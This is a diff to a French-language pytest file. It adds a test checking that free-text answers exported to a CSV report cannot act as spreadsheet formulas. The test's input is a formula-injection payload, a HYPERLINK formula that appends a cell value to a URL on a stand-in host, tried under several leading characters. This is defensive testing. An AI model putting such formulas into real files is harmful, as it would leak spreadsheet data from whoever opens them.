@@ -9,7 +9,10 @@ import pytest
 from appels import APPELS, SEANCE, neuf  # noqa: F401  (chaque essai a son carnet, comme un noyau neuf)
 
 import travailler_ensemble as labo
+from travailler_ensemble import corpus
+from travailler_ensemble.affichage.pages import compte_rendu
 from travailler_ensemble.carnet import Carnet
+from travailler_ensemble.corpus import tableur
 from travailler_ensemble.ecriture.page import Page
 
 
@@ -107,7 +110,19 @@ def test_le_compte_rendu_se_telecharge_et_se_range(tmp_path):
     rendu = (dossier / "mon-compte-rendu.html").read_text(encoding="utf-8")
     assert "Les jeudis de la halte" in rendu and "Partenariat" in rendu and "Réseau" in rendu
     lignes = (dossier / "mon-compte-rendu.csv").read_text(encoding="utf-8-sig").splitlines()
-    assert lignes[1].startswith("formes,") and ",Partenariat,Réseau," in lignes[1]
+    assert lignes[1].startswith("formes;") and ";Partenariat;Réseau;" in lignes[1]
+
+
+@pytest.mark.parametrize("debut", ["=", "+", "-", "@", "\t", "'=", "'"])
+def test_une_reponse_n_est_pas_une_formule_dans_le_tableur_de_qui_la_lit(tmp_path, debut):
+    texte = f'{debut}HYPERLINK("http://exemple.test/?v="&A1;"Ouvrir ma copie")'
+    libre = next(q["id"] for q in corpus.lire().lignes("questions") if q["genre"] == "libre")
+    labo.question(libre).traiter({"geste": "repondre", "champ": "texte", "valeur": texte, "vue": "v", "n": 1})
+    labo.compte_rendu()
+    table = tmp_path / "mes-reponses" / "mon-compte-rendu.csv"
+    lues = [cases for _, cases in tableur.enregistrements("x", table, compte_rendu.COLONNES, brutes=True)]
+    assert lues and not [case for cases in lues for case in cases if case.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert texte.strip() in {tableur.valeur(case).strip() for case in lues[0]}
 
 
 def test_un_compte_rendu_qui_ne_s_ecrit_pas_reste_telechargeable(monkeypatch):
